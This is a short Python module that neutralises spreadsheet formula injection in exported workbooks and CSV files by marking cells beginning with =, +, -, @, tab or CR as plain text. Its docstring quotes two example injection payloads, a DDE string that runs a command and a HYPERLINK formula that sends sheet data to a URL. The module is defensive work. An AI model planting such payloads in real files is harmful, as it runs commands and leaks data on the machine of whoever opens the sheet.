"""Text people typed, written into a spreadsheet or a CSV file as text, never as a formula.

A unit's name, a person's full name or an achievement is anyone's text. openpyxl stores a string
starting with "=" as a formula, and Excel or LibreOffice run a CSV cell starting with = + - @
(`=cmd|' /C calc'!A0`, `=HYPERLINK("http://…?"&A1, "…")` sending the sheet away) when the admin
opens the file. So every workbook thidua writes is passed through `literal` before it is saved,
and every text cell of a CSV through `csv_text`.
"""

from collections.abc import Collection
from typing import Any

# What a spreadsheet may read as the start of a formula (tab and CR start one after a separator).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value: object) -> object:
    """A text cell of a CSV file with a leading apostrophe when it could start a formula;
    numbers and everything else as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def literal(ws: Any, formulas: Collection[str] = ()) -> None:
    """Every cell of the worksheet `ws` that would be read as a formula, made text (shown with
    Excel's quote prefix, so it stays text when edited), but for the cells `formulas` that
    thidua itself wrote as formulas."""
    for row in ws.iter_rows():
        for cell in row:
            value = cell.value
            if not isinstance(value, str) or not value.startswith(FORMULA_START):
                continue
            if cell.coordinate in formulas:
                continue
            cell.data_type = "s"
            cell.quotePrefix = True


def literal_book(book: Any) -> None:
    """`literal` on every worksheet of a workbook that holds no formula of thidua's."""
    for ws in book.worksheets:
        literal(ws)
